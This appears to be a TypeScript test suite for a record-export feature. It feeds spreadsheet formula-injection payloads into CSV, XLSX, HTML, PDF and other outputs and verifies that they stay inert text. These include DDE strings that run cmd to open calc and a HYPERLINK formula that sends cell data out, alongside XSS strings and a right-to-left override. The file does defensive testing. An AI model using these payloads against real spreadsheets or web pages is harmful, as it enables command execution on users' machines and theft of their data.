import { parse as parseCsv } from 'csv-parse/sync'
import { strFromU8, unzipSync } from 'fflate'
import { parse as parseHtml } from 'parse5'
import readXlsx from 'read-excel-file/node'
import { FORMAT_NAMES } from '../src/register/reports/record/formats.ts'
import { madeRecord, written } from './made-record.ts'
import { READERS, spaced, wholeText } from './record-readers.ts'
import { t } from './tap.ts'

t.setTimeout(120_000)

/** Cells that spreadsheets have been made to run: OWASP's list, and what gets around a check of the first letter alone. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com/?x="&A1,"click")',
  '=WEBSERVICE("https://example.com")',
  '+49 30 1234567',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'x\n=1+1',
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  "'=1+1",
  '|=1+1',
  'DDE("cmd";"/C calc";"!A0")',
]

const starts = /^"*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/

/** The cells that a program makes of a CSV when it takes this sign between them, whatever stands in quotes. */
const brutally = (text: string, separator: string): string[] =>
  text.split(/\r\n|\n|\r/).flatMap((line) => line.split(separator))

t.test('no cell of a CSV is a formula, however a program splits it', async (t) => {
  for (const formula of FORMULAS) {
    const csv = (await written(madeRecord(formula), 'csv')).toString()
    const cells: string[][] = parseCsv(csv, { bom: true, relax_quotes: false })
    t.same(
      cells.flat().filter((cell) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)),
      [],
      JSON.stringify(formula),
    )
    for (const separator of [';', ',', '\t', '|'])
      t.same(
        brutally(csv, separator).filter((cell) => starts.test(cell)),
        [],
        `${JSON.stringify(formula)} split at ${JSON.stringify(separator)}`,
      )
  }
})

t.test('no cell of a workbook is a formula: each is a text, as it was written', async (t) => {
  for (const formula of FORMULAS) {
    const xlsx = await written(madeRecord(formula), 'xlsx')
    const parts = Object.entries(unzipSync(xlsx)).filter(([name]) => name.startsWith('xl/worksheets/sheet'))
    t.ok(parts.length > 2)
    for (const [name, bytes] of parts) {
      const xml = strFromU8(bytes)
      t.notMatch(xml, /<f[ >]/, name)
      t.same(
        [...xml.matchAll(/<c [^>]*[^/]>/g)].filter(([cell]) => !/ t="(s|inlineStr)"/.test(cell)),
        [],
        name,
      )
    }
    const [, activities] = await readXlsx(xlsx)
    t.ok(activities?.data.flat().some((cell) => spaced(String(cell)) === spaced(formula)))
  }
})

const HOSTILE: Readonly<Record<string, string>> = {
  html: `<img src=x onerror=alert(1)><script>alert(1)</script></td></table>&amp;"'<!--`,
  markdown: '[x](javascript:alert(1)) **b** `c` # d | e',
  right: 'שלום \u202Eevil\u202C العربية',
  emoji: '👩‍👩‍👧 naïve ÅÄÖåäö Łódź Ελλάδα Київ',
  control: 'a\u0001b\u007Fc\u0085d\u2028e',
  long: `${'långt ord '.repeat(999)}slutet`,
  word: `${'å'.repeat(9_990)}-slutet`,
  escape: '_x0041_ _x005F_',
  member: 'constructor',
}

t.test('hostile texts stay whole, and do nothing, in every format', async (t) => {
  for (const [name, text] of Object.entries(HOSTILE))
    for (const format of FORMAT_NAMES) {
      const bytes = await written(madeRecord(text), format)
      const read = await READERS[format]?.(bytes)
      if (read === undefined) continue
      const found = read('activity', 'Art. 30(1)(b)')
      const expected = spaced(shownIn(format, text))
      const isThere =
        format === 'pdf'
          ? joined(found).includes(joined(expected).slice(0, 1_000)) &&
            joined(found).includes(joined(expected).slice(-5))
          : found.includes(expected)
      t.ok(isThere, `${name} in ${format}: ${found.slice(0, 200)}`)
    }
})

/** Without what breaks lines: where they end on a page is no part of the text. */
const joined = (text: string): string => text.replace(/[\s\u200B]/gu, '')

/** How a text stands where a format cannot have all of its characters: each that it lacks is told, and none is lost. */
function shownIn(format: string, text: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
  const printed = text.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F]/g, numbered)
  if (format === 'pdf')
    return printed.replace(/[\u0590-\u06FF\u200B-\u200F\u2028-\u202E]|\p{Extended_Pictographic}/gu, numbered)
  return ['json', 'csv', 'json-ld', 'turtle'].includes(format) ? text : printed
}

const numbered = (letter: string): string =>
  `[U+${letter.codePointAt(0)?.toString(16).toUpperCase().padStart(4, '0')}]`

t.test('a page has nothing that runs, and nothing from elsewhere', async (t) => {
  for (const text of Object.values(HOSTILE)) {
    const html = (await written(madeRecord(text), 'html')).toString()
    const names = new Set<string>()
    const look = (node: object): void => {
      const {
        nodeName,
        attrs = [],
        childNodes = [],
      } = node as {
        nodeName: string
        attrs?: { name: string; value: string }[]
        childNodes?: object[]
      }
      names.add(nodeName)
      for (const { name, value } of attrs) {
        t.notMatch(name, /^(on|src|style|action)/, nodeName)
        if (name === 'href') t.match(value, /^#a-/)
      }
      childNodes.forEach(look)
    }
    look(parseHtml(html))
    t.same(
      ['script', 'img', 'iframe', 'object', 'link', 'base', 'form'].filter((name) => names.has(name)),
      [],
    )
  }
})

t.test('a cell that is too long for a workbook goes on in the next row', async (t) => {
  const text = `${'x'.repeat(40_000)}end`
  const [, activities] = await readXlsx(await written(madeRecord(text), 'xlsx'))
  const rows = activities?.data.filter(([key]) => key === 'activity') ?? []
  t.ok(rows.length > 1)
  t.ok(rows.flat().every((cell) => String(cell ?? '').length <= 32_767))
  t.match(await wholeText('xlsx', await written(madeRecord(text), 'xlsx')), /x{7000}end/)
})
